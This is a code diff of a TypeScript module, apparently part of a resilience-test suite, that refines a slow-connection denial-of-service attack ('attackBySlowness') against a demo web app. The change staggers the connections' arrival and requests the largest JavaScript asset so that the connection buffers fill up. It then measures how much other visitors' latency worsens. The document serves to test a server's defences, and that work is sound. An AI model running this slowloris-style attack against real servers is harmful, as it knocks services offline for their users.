@@ -3,12 +3,14 @@ import type { DemoHouse } from "./demo-house.ts";
 import { Visitor } from "./visitor.ts";
 
 const WATCH_MS = 40_000;
+const ARRIVE_MS = 15_000;
 
 /** G16: a thousand connections that send their head, their body or read their answer as slowly as they can. */
 export async function attackBySlowness(house: DemoHouse, connections: number): Promise<{ found: string[] }> {
   const alone = await watch(house, WATCH_MS / 2);
   process.stdout.write(`alone: ${said(alone)}\n`);
   const { port } = new URL(house.origin);
+  const largeFile = await findLargeFile(house);
   const sockets = new Set<net.Socket>();
   let opened = 0;
   let cut = 0;
@@ -25,7 +27,7 @@ export async function attackBySlowness(house: DemoHouse, connections: number): P
         );
       else {
         socket.pause();
-        socket.write(`GET /dang-nhap HTTP/1.1\r\n${host}\r\n`.repeat(4));
+        socket.write(`GET ${largeFile} HTTP/1.1\r\n${host}\r\n`.repeat(4));
       }
     });
     socket.on("error", () => {});
@@ -39,8 +41,11 @@ export async function attackBySlowness(house: DemoHouse, connections: number): P
       else if (kind === 1) socket.write("a");
     }, 3_000);
   };
-  for (let index = 0; index < connections; index++) open(index % 3);
-  await new Promise((resolve) => setTimeout(resolve, 3_000));
+  // Not all in one moment: that would be a flood, which is another attack.
+  for (let index = 0; index < connections; index++) {
+    open(index % 3);
+    await new Promise((resolve) => setTimeout(resolve, ARRIVE_MS / connections));
+  }
   const besieged = await watch(house, WATCH_MS);
   process.stdout.write(
     `with ${connections} slow connections (${opened} opened, ${cut} cut by the house by the end): ${said(besieged)}\n`,
@@ -55,6 +60,19 @@ export async function attackBySlowness(house: DemoHouse, connections: number): P
       `others waited ${Math.round(besieged.p95Ms)} ms (p95), ${Math.round(alone.p95Ms)} ms without the slow ones`,
     );
   return { found };
+}
+
+/** More than the buffers of a connection hold, four times over. */
+async function findLargeFile(house: DemoHouse): Promise<string> {
+  const visitor = new Visitor(house.origin, "somebody slow");
+  const page = await visitor.get("/dang-nhap");
+  let largest = { path: "/", bytes: 0 };
+  for (const [path] of new Set(page.text.match(/\/assets\/[\w-]+\.js/g) ?? []).entries()) {
+    const bytes = (await visitor.get(path)).text.length;
+    if (bytes > largest.bytes) largest = { path, bytes };
+  }
+  visitor.close();
+  return largest.path;
 }
 
 interface Watched {
